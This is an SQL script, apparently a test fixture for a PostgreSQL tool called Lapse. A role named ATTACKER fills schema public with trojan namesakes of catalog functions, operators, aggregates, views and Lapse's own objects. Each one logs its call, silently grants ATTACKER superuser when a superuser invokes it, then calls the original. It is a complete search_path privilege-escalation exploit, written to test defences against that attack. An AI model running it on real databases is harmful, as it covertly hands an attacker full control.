-- What a role that may create in schema public plants there: a namesake of everything that a statement can name without
-- a schema. Each notes its call and then does what the original does, so that nobody notices. It is run by that role,
-- ATTACKER, with search_path = pg_catalog.

-- planted notes a call in the server's log, which no rollback takes back. If its caller is a superuser, the role becomes
-- one too.
create function public.planted(what text) returns boolean language plpgsql
set search_path = pg_catalog, pg_temp
as $body$
begin
  raise log 'planted in %: % called by % as %', current_database(), what, session_user, current_user;
  if (select r.rolsuper from pg_roles r where r.rolname = current_user) then
    alter role ATTACKER superuser;
  end if;
  return true;
exception when others then
  return true;
end
$body$;

-- plant runs a statement that may be refused, and keeps what became of it.
create table public.planted_object (statement text not null, refusal text);
create function public.plant(statement text) returns void language plpgsql
as $body$
begin
  execute statement;
  insert into public.planted_object values (statement, null);
exception when others then
  insert into public.planted_object values (statement, sqlerrm);
end
$body$;

-- Functions of the same name and arguments.
do $body$
declare
  f record;
begin
  for f in
    select p.proname as name, pg_get_function_arguments(p.oid) as arguments, pg_get_function_result(p.oid) as result,
           case p.provolatile when 'i' then 'immutable' when 's' then 'stable' else 'volatile' end as volatility, p.proretset as is_set, p.prorettype = 'void'::regtype as is_void, outs.list as outs,
           format('%I(%s)', p.proname, pg_get_function_identity_arguments(p.oid)) as signature,
           format('pg_catalog.%I(%s)', p.proname, coalesce(ins.list, '')) as original
      from pg_proc p
     cross join lateral (select coalesce(p.proargmodes, array_fill('i'::"char", array[p.pronargs]))) as m(modes)
     cross join lateral (
       select string_agg(case a.mode when 'v' then 'variadic ' else '' end || '$' || a.at, ', ' order by a.at)
         from unnest(m.modes) with ordinality a(mode, at) where a.mode in ('i', 'b', 'v')) as ins(list)
     cross join lateral (
       select string_agg('$' || a.at, ', ' order by a.at)
         from unnest(m.modes) with ordinality a(mode, at) where a.mode in ('o', 'b')) as outs(list)
     where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f'
  loop
    perform public.plant(format('create function public.%I(%s) returns %s language plpgsql %s as %L',
      f.name, f.arguments, f.result, f.volatility, format('begin perform public.planted(%L); %s; end', f.signature,
        case when f.is_set then 'return query select * from ' || f.original
             when f.outs is not null then format('select * into %s from %s', f.outs, f.original)
             when f.is_void then 'perform ' || f.original
             else 'return ' || f.original end)));
  end loop;
end
$body$;

-- Better matches than an original that takes anything.
do $body$
declare
  f record;
begin
  for f in
    select v.name, v.result, array_fill('text'::text, array[n]) as types
      from (values ('format', 'text'), ('concat', 'text'), ('concat_ws', 'text'), ('jsonb_build_object', 'jsonb'),
                   ('json_build_object', 'json'), ('jsonb_build_array', 'jsonb'), ('num_nulls', 'int')) v(name, result),
           generate_series(1, 12) n
    union all
    select 'format', 'text', types::text[]
      from (values ('{text,name}'), ('{text,name,name}'), ('{text,text,name}'), ('{text,name,text}'), ('{text,oid}')) v(types)
    union all
    select v.name, replace(v.result, 'element', e), string_to_array(replace(v.types, 'element', e), ' ')
      from (values ('unnest', 'setof element', 'element[]'), ('cardinality', 'int', 'element[]'), ('to_jsonb', 'jsonb', 'element'),
                   ('to_jsonb', 'jsonb', 'element[]'), ('array_to_string', 'text', 'element[] text'),
                   ('array_position', 'int', 'element[] element'), ('array_append', 'element[]', 'element[] element'),
                   ('quote_literal', 'text', 'element')) v(name, result, types),
           unnest(array['text', 'name', 'oid', 'smallint', 'int', 'bigint', 'boolean', 'timestamptz', 'record']) e
  loop
    perform public.plant(format('create function public.%I(%s) returns %s language plpgsql stable as %L',
      f.name, array_to_string(f.types, ', '), f.result,
      format('begin perform public.planted(%L); %s pg_catalog.%I(%s); end', f.name || '(' || array_to_string(f.types, ', ') || ')',
        case when f.result like 'setof %' then 'return query select * from' else 'return' end, f.name,
        (select string_agg('$' || n, ', ' order by n) from generate_series(1, cardinality(f.types)) n))));
  end loop;
end
$body$;

-- Aggregates.
do $body$
declare
  a record;
begin
  for a in
    select v.name, v.type, replace(v.state, 'same', v.type) as state
      from (values ('count', '*', 'bigint'), ('count', 'text', 'bigint'), ('count', 'int', 'bigint'), ('count', 'bigint', 'bigint'),
                   ('max', 'int', 'same'), ('max', 'bigint', 'same'), ('max', 'timestamptz', 'same'), ('min', 'timestamptz', 'same'),
                   ('sum', 'int', 'bigint'), ('sum', 'bigint', 'bigint'), ('bool_or', 'boolean', 'same'), ('bool_and', 'boolean', 'same'),
                   ('string_agg', 'text, text', 'text'), ('array_agg', 'text', 'text[]'), ('array_agg', 'name', 'name[]'),
                   ('array_agg', 'oid', 'oid[]'), ('array_agg', 'smallint', 'smallint[]'), ('array_agg', 'int', 'int[]')) v(name, type, state)
  loop
    perform public.plant(format('create function public.planted_step(%s) returns %s language plpgsql as %L',
      concat_ws(', ', a.state, nullif(a.type, '*')), a.state,
      format('begin perform public.planted(%L); return $1; end', format('%s(%s)', a.name, a.type))));
    perform public.plant(format('create aggregate public.%I(%s) (sfunc = public.planted_step, stype = %s)', a.name, a.type, a.state));
  end loop;
end
$body$;

-- Operators: those there are, and exact ones for pairs of types that PostgreSQL brings together by a cast.
do $body$
declare
  o record;
begin
  for o in
    select p.oprname as name, p.oprleft::regtype as l, p.oprright::regtype as r, f.proname as function
      from pg_operator p join pg_proc f on f.oid = p.oprcode
     where p.oprnamespace = 'pg_catalog'::regnamespace
  loop
    perform public.plant(format('create operator public.%s (%srightarg = %s, function = public.%I)',
      o.name, 'leftarg = ' || nullif(o.l::text, '-') || ', ', o.r, o.function));
  end loop;
  for o in
    select p.name, l, r, case p.name when '||' then 'text' else 'boolean' end as result,
           'planted_' || row_number() over () as function
      from unnest(array['=', '<>', '<', '<=', '>', '>=', '||', '@>', '<@', '&&', '~', '~~', '!~~']) p(name),
           unnest(array['text', 'name', '"char"', 'oid', 'smallint', 'int', 'bigint', 'regclass', 'timestamptz', 'date', 'uuid', 'jsonb', 'text[]', 'oid[]']) l,
           unnest(array['text', 'name', '"char"', 'oid', 'smallint', 'int', 'bigint', 'regclass', 'timestamptz', 'date', 'uuid', 'jsonb', 'text[]', 'oid[]']) r
     where not exists (select from pg_operator e where e.oprname = p.name and e.oprleft = l::regtype and e.oprright = r::regtype)
       and (p.name <> '||' or 'text' in (l, r))
  loop
    perform public.plant(format('create function public.%I(%s, %s) returns %s language plpgsql immutable as %L',
      o.function, o.l, o.r, o.result,
      format('begin perform public.planted(%L); return $1 operator(pg_catalog.%s) $2; end', format('%s %s %s', o.l, o.name, o.r), o.name)));
    perform public.plant(format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.%I)',
      o.name, o.l, o.r, o.function));
  end loop;
end
$body$;

-- Tables and views.
do $body$
declare
  c record;
begin
  for c in
    select r.relname as name, string_agg(quote_ident(a.attname), ', ' order by a.attnum) as columns
      from pg_class r
      join pg_attribute a on a.attrelid = r.oid and a.attnum > 0 and a.atttypid not in ('anyarray'::regtype, 'pg_statistic[]'::regtype)
     where r.relnamespace = 'pg_catalog'::regnamespace and r.relkind in ('r', 'v')
     group by r.relname
  loop
    perform public.plant(format('create view public.%I as select %s from pg_catalog.%I where public.planted(%L)',
      c.name, c.columns, c.name, 'the view ' || c.name));
    perform public.plant(format('grant select on public.%I to public', c.name));
  end loop;
end
$body$;

-- Namesakes of Lapse's own objects.
do $body$
declare
  n text;
begin
  foreach n in array array['installation', 'policy', 'policy_state', 'gate', 'run', 'shard', 'batch', 'batch_result', 'heartbeat'] loop
    perform public.plant(format('create table public.%I ()', n));
    perform public.plant(format('grant select, insert, update, delete on public.%I to public', n));
  end loop;
  foreach n in array array['reach(oid)', 'intruders(oid)', 'unseen(oid)', 'advance_arming(int)', 'beat(int)'] loop
    perform public.plant(format('create function public.%s returns text language plpgsql as %L', n,
      format('begin perform public.planted(%L); return null; end', n)));
  end loop;
end
$body$;
